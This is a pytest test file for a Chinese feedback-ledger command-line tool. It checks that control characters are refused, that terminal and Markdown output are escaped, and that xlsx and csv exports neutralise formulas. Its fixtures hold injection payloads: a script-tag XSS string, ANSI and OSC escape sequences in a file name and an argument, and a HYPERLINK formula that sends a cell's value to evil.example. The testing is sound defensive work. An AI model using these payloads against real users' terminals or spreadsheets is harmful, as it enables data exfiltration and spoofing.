"""Text that must never enter or leave raw (issue 11, finding 10).

- ``check`` refuses control characters in every text of a hand-edited ledger (a newline only in
  the long texts: text, progress text, reason, note), and so does every write, which checks the
  item it wrote.
- Nothing reaches a terminal raw: data in tables and cards is never read as rich markup, and
  control characters anywhere in a message are shown as ``\\x1b``.
- Markdown output shows its text and nothing else: no HTML (``<script>``), links, images or emphasis.
- The xlsx export writes every text as a text cell (never a formula); the csv export puts ``'``
  before a cell a spreadsheet would run as a formula, and import removes exactly that ``'``.
  A sheet with a formula in it is refused; a text an xlsx cell cannot hold is refused by name.
"""

from __future__ import annotations

import csv
import dataclasses
import io
import zipfile
from datetime import date

import openpyxl
import pytest
from rich.console import Console

from ledger.core.edits import Edit
from ledger.core.model import CloseOut, Evidence, Extension, Item, PastCloseOut, ProgressNote, Reopening, Unit
from test_excel import edit, export, row_number

# --------------------------------------------------------------------------- check of hand edits

UNITS = """\
units:
  - name: 区财政局
    kind: district
    aliases: ["财政\\a局"]
    note: "第一行\\n第二行"
  - name: 区建设环保局
    kind: district
"""

ITEMS = """\
questions:
  "1": "哪些单位需要改进\\e？"
items:
  - id: "1-1"
    question: 1
    text: "市教育局的\\n一些事情。\\e[2J"
    lead: 区财政局
    responsible: [区财政局, 区建设环保局]
    deadline: 2024-08-31
    status: closed
    source: "企业家恳谈会\\x9b"
    leader: "王局长\\n"
    progress:
      - date: 2024-07-01
        text: "已走访\\n企业"
        by: "李\\e四"
        recorded: 2024-09-10
    extensions:
      - date: 2024-08-01
        to: 2024-12-31
        reason: "资金\\n分批到位"
        previous: 2024-08-31
        approved_by: "王五\\n"
        recorded: 2024-09-10
    closed:
      date: 2024-09-05
      by: "张\\t三"
      evidence:
        - text: "拨付\\r凭证"
      recorded: 2024-09-10
    history:
      - closed:
          date: 2024-08-20
          by: 张三
          evidence:
            - text: "验收单"
          note: "备\\x7f注\\n第二行"
          recorded: 2024-09-10
        reopened:
          date: 2024-09-01
          reason: "款项\\n仍未拨付"
          by: "区纪检\\N监察工委"
          recorded: 2024-09-10
"""

LINE_BREAK = "a line break is not allowed here (only in a long text: text, reason, note)"


def test_check_refuses_control_characters_in_every_text_of_a_hand_edit(small):
    led = small(ITEMS, UNITS)
    before = led.snapshot()
    result = led("check")
    assert result.exit_code == 1
    assert result.stdout.splitlines() == [
        "data/items.yaml:2:3: questions.1: control character U+001B is not allowed",
        "data/items.yaml:6:5: item 1-1: text: control character U+001B is not allowed",
        "data/items.yaml:11:5: item 1-1: source: control character U+009B is not allowed",
        f"data/items.yaml:12:5: item 1-1: leader: {LINE_BREAK}",
        "data/items.yaml:16:9: item 1-1: progress[0].by: control character U+001B is not allowed",
        f"data/items.yaml:23:9: item 1-1: extensions[0].approved_by: {LINE_BREAK}",
        "data/items.yaml:27:7: item 1-1: closed.by: control character U+0009 is not allowed",
        "data/items.yaml:29:11: item 1-1: closed.evidence[0].text: control character U+000D is not allowed",
        "data/items.yaml:37:11: item 1-1: history[0].closed.note: control character U+007F is not allowed",
        "data/items.yaml:42:11: item 1-1: history[0].reopened.by: control character U+0085 is not allowed",
        "data/departments.yaml:4:15: units[0].aliases[0]: control character U+0007 is not allowed",
        "11 problems",
    ]
    assert led.snapshot() == before


def test_newlines_in_long_texts_are_fine(small):
    clean = (ITEMS.replace("\\e[2J", "").replace("\\x9b", "").replace('"王局长\\n"', "王局长")
             .replace('"李\\e四"', "李四").replace('"王五\\n"', "王五").replace('"张\\t三"', "张三")
             .replace("拨付\\r凭证", "拨付凭证").replace("\\x7f", "").replace('"区纪检\\N监察工委"', "区纪检监察工委")
             .replace("改进\\e？", "改进？"))
    led = small(clean, UNITS.replace('["财政\\a局"]', "[财政局]"))
    assert led("check").stdout == "ok: 1 item, 2 units, no problems\n"


def test_a_write_never_stores_a_control_character(shipped):
    before = shipped.snapshot()
    result = shipped("progress", "1-1", "a\x1b[2Jb")
    assert result.exit_code == 1
    assert "control character U+001B is not allowed" in result.stderr
    assert "\x1b" not in result.stderr + result.stdout
    assert shipped.snapshot() == before


def _every_text_item() -> Item:
    closeout = CloseOut(date=date(2024, 8, 20), by="张三", evidence=(Evidence(text="凭证"), Evidence(
        file="evidence/1-1/a.pdf", size=1, sha256="0" * 64)), note="备注")
    return Item(id="1-1", text="文字", lead="区财政局", responsible=("区财政局", "区建设环保局"), deadline=date(2024, 8, 31),
                status="closed", question=1, source="来源", leader="王局长",
                progress=(ProgressNote(date=date(2024, 7, 1), text="走访", by="李四"),),
                extensions=(Extension(date=date(2024, 8, 1), to=date(2024, 12, 31), reason="理由",
                                      previous=date(2024, 8, 31), approved_by="王五"),),
                closed=closeout,
                history=(PastCloseOut(closed=closeout, reopened=Reopening(date=date(2024, 9, 1), reason="未改",
                                                                          by="纪检")),),
                edits=(Edit(date=date(2024, 9, 2), by="张三", reason="更正", changed=("text", "lead", "responsible", "source"),
                            text="旧文字", lead="区建设环保局", responsible=("区财政局",), source="旧来源"),))


def _with(record, path, value):  # type: ignore[no-untyped-def]
    """``record`` with the text at ``path`` (as ``strings`` gives it) replaced."""
    head, *rest = path
    current = getattr(record, head)
    if not rest:
        return dataclasses.replace(record, **{head: value})
    index, *deeper = rest
    if isinstance(index, int):
        part = current[index]
        new = value if not deeper else _with(part, deeper, value)
        return dataclasses.replace(record, **{head: (*current[:index], new, *current[index + 1:])})
    return dataclasses.replace(record, **{head: _with(current, rest, value)})


def test_the_fast_look_sees_every_text_the_full_walk_sees():
    """``looks_clean`` reads the fields by name for speed; a text field added to the model and not
    to it would let control characters through. Every text, in turn, gets an ESC."""
    from ledger.core.texts import looks_clean, strings, text_problems

    item = _every_text_item()
    assert looks_clean(item) and list(text_problems(item)) == []
    paths = [path for path, _, _ in strings(item) if path[0] not in ("status", "deadline")]
    assert len(paths) >= 20
    for path in paths:
        bad = _with(item, path, "a\x1bb")
        assert not looks_clean(bad), path
        assert [p for p, _ in text_problems(bad)] == [path]
    for path, _, long in strings(item):
        if path[0] not in ("status", "deadline"):
            broken = _with(item, path, "a\nb")
            assert [p for p, _ in text_problems(broken)] == ([] if long else [path]), path
    unit = Unit(name="区财政局", kind="district", aliases=("财政\x07局",), note="一\n二")
    assert [p for p, _ in text_problems(unit)] == [("aliases", 0)]


# --------------------------------------------------------------------------- nothing raw to a terminal

MARKUP_UNITS = """\
units:
  - name: "<script>alert(1)</script>局"
    kind: district
  - name: "[/x]区财政局"
    kind: district
"""
MARKUP_TEXT = "[/x] [link=http://evil.example]点击[/link] [red]红 :smile: *粗* `code` ![img](http://t.example/p.png) a|b &amp;"
MARKUP_ITEMS = f"""\
items:
  - id: "1-1"
    question: 1
    text: "{MARKUP_TEXT}"
    lead: "<script>alert(1)</script>局"
    responsible: ["<script>alert(1)</script>局", "[/x]区财政局"]
    deadline: 2024-08-31
    status: open
"""


@pytest.fixture
def markup(small):  # type: ignore[no-untyped-def]
    return small(MARKUP_ITEMS, MARKUP_UNITS)


def test_a_table_shows_data_as_written_never_as_rich_markup(markup):
    result = markup("list")
    assert result.exit_code == 0
    assert result.stdout.splitlines() == [
        "┏━━━━━┳━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━┳━━━━━━━━━━━━━━━━━━━━━━━━━━━━━┳━━━━━━━━━━━━┳━━━━━━━━━━━━━┓",
        "┃ ID  ┃ Feedback                          ┃ Lead                        ┃ Deadline   ┃ Status      ┃",
        "┡━━━━━╇━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━╇━━━━━━━━━━━━━━━━━━━━━━━━━━━━━╇━━━━━━━━━━━━╇━━━━━━━━━━━━━┩",
        "│ 1-1 │ [/x] [link=http://evil.example]点 │ <script>alert(1)</script>局 │ 2024-08-31 │ overdue 10d │",
        "│     │ 击[/link] [red]红 :smile: *粗*    │                             │            │             │",
        "│     │ `code`                            │                             │            │             │",
        "│     │ ![img](http://t.example/p.png)    │                             │            │             │",
        "│     │ a|b &amp;                         │                             │            │             │",
        "└─────┴───────────────────────────────────┴─────────────────────────────┴────────────┴─────────────┘",
        "1 item · open 1, in progress 0, closed 0, overdue 1 · as of 2024-09-10",
    ]


def test_a_card_shows_data_as_written(markup):
    result = markup("show", "1-1")
    assert result.exit_code == 0
    assert result.stdout.splitlines() == [
        "ID           1-1                                                                                    ",
        "Question     1                                                                                      ",
        "Feedback     [/x] [link=http://evil.example]点击[/link] [red]红 :smile: *粗* `code`                 ",
        "             ![img](http://t.example/p.png) a|b &amp;                                               ",
        "Lead         <script>alert(1)</script>局                                                            ",
        "Responsible  <script>alert(1)</script>局、[/x]区财政局                                              ",
        "Deadline     2024-08-31                                                                             ",
        "Status       overdue 10d                                                                            ",
        "as of 2024-09-10",
    ]


def test_the_report_table_shows_unit_names_as_written(markup):
    result = markup("report", "--by", "responsible")
    assert result.exit_code == 0
    assert result.stdout.splitlines()[2:4] == [
        "<script>alert(1)</script>局      1       0        0     0     1        1        0      0  0.0%",
        "[/x]区财政局                     1       0        0     0     1        1        0      0  0.0%",
    ]


def test_markdown_shows_text_not_html_links_or_emphasis(markup):
    escaped_text = ("\\[/x\\] \\[link=http://evil.example\\]点击\\[/link\\] \\[red\\]红 :smile: \\*粗\\* \\`code\\` "
                    "!\\[img\\](http://t.example/p.png) a\\|b &amp;amp;")
    script = "&lt;script&gt;alert(1)&lt;/script&gt;局"
    assert markup("list", "--format", "markdown").stdout == (
        "| id | question | text | lead | responsible | deadline | status | overdue | days_overdue | original_deadline "
        "| extensions | closed_date | last_progress |\n"
        "| --- | --- | --- | --- | --- | --- | --- | --- | --- | --- | --- | --- | --- |\n"
        f"| 1-1 | 1 | {escaped_text} | {script} | {script}、\\[/x\\]区财政局 | 2024-08-31 | open | true | 10 "
        "| 2024-08-31 | 0 |  |  |\n")
    assert markup("report", "--format", "markdown").stdout == (
        "| Lead unit | Items | Closed | On time | Late | Open | Overdue | Due in 30 days | No progress 30 days "
        "| Close rate | Red | Yellow | Blue | Awaiting review | Returned |\n"
        "| --- | --- | --- | --- | --- | --- | --- | --- | --- | --- | --- | --- | --- | --- | --- |\n"
        f"| {script} | 1 | 0 | 0 | 0 | 1 | 1 | 0 | 0 | 0.0% | 1 | 0 | 0 | 0 | 0 |\n"
        "| Total | 1 | 0 | 0 | 0 | 1 | 1 | 0 | 0 | 0.0% | 1 | 0 | 0 | 0 | 0 |\n"
        "\n"
        "as of 2024-09-10\n")
    bulletin = markup("bulletin", "--period", "2024-09").stdout
    assert f"| 1-1 | {escaped_text} | {script} | 2024-08-31 | still overdue |\n" in bulletin
    assert "<script>" not in bulletin and "](http" not in bulletin.replace("\\](http", "")


def test_control_characters_in_a_message_are_shown_not_sent(small):
    led = small(MARKUP_ITEMS, MARKUP_UNITS)
    (led.data / "items").mkdir()
    (led.data / "items" / "x\x1b[2J.yaml").write_text(
        'items:\n  - id: "9-1"\n    question: 9\n    text: "新问题"\n    lead: 未知局\n    responsible: [未知局]\n'
        "    deadline: ongoing\n    status: open\n", encoding="utf-8")
    result = led("check")
    assert result.stdout == (
        "data/items/x\\x1b[2J.yaml:5:5: item 9-1: lead: unknown unit '未知局'\n"
        "data/items/x\\x1b[2J.yaml:6:19: item 9-1: responsible[0]: unknown unit '未知局'\n"
        "2 problems\n")
    listed = led("list")
    assert listed.exit_code == 1
    assert listed.stderr.splitlines()[0] == "data/items/x\\x1b[2J.yaml:5:5: item 9-1: lead: unknown unit '未知局'"
    evidence = led("close", "1-1", "--evidence", "no\x1b]0;pwned\x07such.pdf", "--by", "张三")
    assert evidence.exit_code == 1
    assert "\x1b" not in evidence.stderr and "\x07" not in evidence.stderr
    assert "no\\x1b]0;pwned\\x07such.pdf" in evidence.stderr


def test_the_renderers_escape_control_characters():
    """Defence in depth: should a control character reach a renderer, it is shown, not sent."""
    from ledger.render.card import item_card
    from ledger.render.tables import items_plain, items_table
    from ledger.reports.rows import detail, row

    item = Item(id="1-1", text="a\x1b[2Jb\x9b\u202ec", lead="区\x07财政局", responsible=("区财政局",),
                deadline=date(2024, 8, 31), progress=(ProgressNote(date=date(2024, 7, 1), text="走\x1b访"),))
    rows = [row(item, date(2024, 9, 10))]
    plain = items_plain(rows, 100)
    console = Console(file=io.StringIO(), width=100, color_system=None)
    console.print(items_table(rows, console))
    console.print(item_card(detail(item, date(2024, 9, 10)), None, "2024-09-10"))
    for text in (plain, console.file.getvalue()):
        assert not any(ch in text for ch in "\x1b\x07\x9b\u202e")
        assert "\\x1b[2Jb" in text and "\\x07" in text
    assert "a\\x1b[2Jb\\x9b\\u202ec" in plain


# --------------------------------------------------------------------------- spreadsheets

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
TEXTS = {"1-1": FORMULA, "1-2": "=1+1 是否计入考核", "1-3": "+86 热线电话不通", "1-4": "-1+1 减负", "1-5": "@某单位 回复慢",
         "1-6": "'引号开头", "1-7": "#N/A", "1-8": "'a 不加前缀"}


@pytest.fixture
def formulas(shipped):  # type: ignore[no-untyped-def]
    text = shipped.items_text()
    for item_id, new in TEXTS.items():
        start = text.index(f'  - id: "{item_id}"\n')
        at = text.index("    text: ", start)
        end = text.index("\n", at)
        quoted = new.replace("\\", "\\\\").replace('"', '\\"')
        text = text[:at] + f'    text: "{quoted}"' + text[end:]
    shipped.write_items(text)
    shipped.git("commit", "-qam", "texts that look like formulas")
    assert shipped("check").exit_code == 0
    return shipped


def test_xlsx_cells_are_text_never_formulas(formulas, tmp_path):
    path = export(formulas, tmp_path)
    with zipfile.ZipFile(path) as z:
        sheets = [z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/")]
    assert not any("<f>" in s or "<f " in s for s in sheets)
    ws = openpyxl.load_workbook(path)["整改台账"]
    for item_id, text in TEXTS.items():
        cell = ws.cell(row_number(ws, item_id), 3)
        assert (cell.value, cell.data_type) == (text, "s"), item_id
    assert ws.cell(row_number(ws, "1-1"), 3).quotePrefix
    before = formulas.snapshot()
    assert formulas("import", str(path)).stdout == "33 rows: 0 new, 0 changed, 33 unchanged\n"
    assert formulas.snapshot() == before


def test_csv_cells_that_look_like_formulas_get_a_quote_and_import_removes_exactly_it(formulas, tmp_path):
    path = export(formulas, tmp_path, "csv")
    rows = {r[1]: r for r in csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig")))}
    assert {i: rows[i][2] for i in TEXTS} == {
        "1-1": "'" + FORMULA, "1-2": "'=1+1 是否计入考核", "1-3": "'+86 热线电话不通", "1-4": "'-1+1 减负",
        "1-5": "'@某单位 回复慢", "1-6": "''引号开头", "1-7": "#N/A", "1-8": "''a 不加前缀"}
    assert rows["2-8"][0] == "26"  # numbers are numbers
    before = formulas.snapshot()
    assert formulas("import", str(path)).stdout == "33 rows: 0 new, 0 changed, 33 unchanged\n"
    assert formulas.snapshot() == before
    listed = {r[0]: r[2] for r in csv.reader(io.StringIO(formulas("list", "--format", "csv").stdout))}
    assert listed["1-2"] == "'=1+1 是否计入考核"


def test_a_quote_typed_by_hand_before_ordinary_text_stays(shipped, tmp_path):
    path = export(shipped, tmp_path, "csv")
    text = path.read_text(encoding="utf-8-sig").replace("对于单位拖欠款项需要改进。", "'对于单位拖欠款项需要改进。")
    path.write_text(text, encoding="utf-8-sig")
    result = shipped("import", str(path), "--dry-run")
    assert result.stdout.splitlines()[0] == "would update 2-8: 反馈问题"


def test_a_formula_in_a_sheet_is_refused_not_read_as_its_value(shipped, tmp_path):
    """A spreadsheet that turned a text into a formula: its computed value ("2") is never imported."""
    path = export(shipped, tmp_path)

    def formulas_in(ws):  # type: ignore[no-untyped-def]
        ws.cell(row_number(ws, "2-8"), 3).value = "=1+1"
        ws.cell(row_number(ws, "2-9"), 4).value = '=CONCAT("区","财政局")'
        ws.cell(2, 1).value = "=ROW()-1"  # 序号 is never read: a formula there is harmless

    edit(path, formulas_in)
    before = shipped.snapshot()
    result = shipped("import", str(path))
    where = path.relative_to(shipped.root)
    assert result.exit_code == 1
    assert result.stderr.splitlines() == [
        f"{where}:整改台账:27:C: 反馈问题: a formula: the ledger takes text; type the value itself",
        f"{where}:整改台账:28:D: 牵头部门: a formula: the ledger takes text; type the value itself",
        f"Error: 2 cells of {where} hold formulas; nothing was written",
    ]
    assert shipped.snapshot() == before


def test_text_longer_than_an_xlsx_cell_is_refused_by_name(shipped, tmp_path_factory):
    tmp_path = tmp_path_factory.mktemp("out")  # outside the ledger's folder, which must not change
    long_text = "长" * 32_768
    shipped.write_items(shipped.items_text().replace("对于单位拖欠款项需要改进。", long_text)
                        .replace("希望服务态度可以更好点。", "好" * 40_000))
    before = shipped.snapshot()
    target = tmp_path / "台账.xlsx"
    result = shipped("export", "-o", str(target))
    assert (result.exit_code, result.stderr) == (
        1, "Error: 1-2 (反馈问题), 2-8 (反馈问题): over 32,767 characters, the most an xlsx cell holds; nothing was "
           "written (a .csv export has no such limit)\n")
    assert not target.exists()
    assert shipped.snapshot() == before
    path = export(shipped, tmp_path, "csv")
    assert shipped("import", str(path)).stdout == "33 rows: 0 new, 0 changed, 33 unchanged\n"
    assert shipped.snapshot() == before


def test_the_exact_limit_fits(shipped, tmp_path):
    shipped.write_items(shipped.items_text().replace("对于单位拖欠款项需要改进。", "长" * 32_767))
    path = export(shipped, tmp_path)
    ws = openpyxl.load_workbook(path)["整改台账"]
    assert len(ws.cell(row_number(ws, "2-8"), 3).value) == 32_767
    assert shipped("import", str(path)).stdout == "33 rows: 0 new, 0 changed, 33 unchanged\n"


def test_a_csv_cell_longer_than_csvs_default_limit_is_read(shipped, tmp_path):
    """Python's csv module stops at 131,072 characters a cell; the ledger reads what it may keep."""
    path = export(shipped, tmp_path, "csv")
    text = path.read_text(encoding="utf-8-sig").replace("对于单位拖欠款项需要改进。", "长" * 200_000)
    path.write_text(text, encoding="utf-8-sig")
    result = shipped("import", str(path), "--dry-run")
    assert (result.exit_code, result.stdout.splitlines()[0]) == (0, "would update 2-8: 反馈问题")
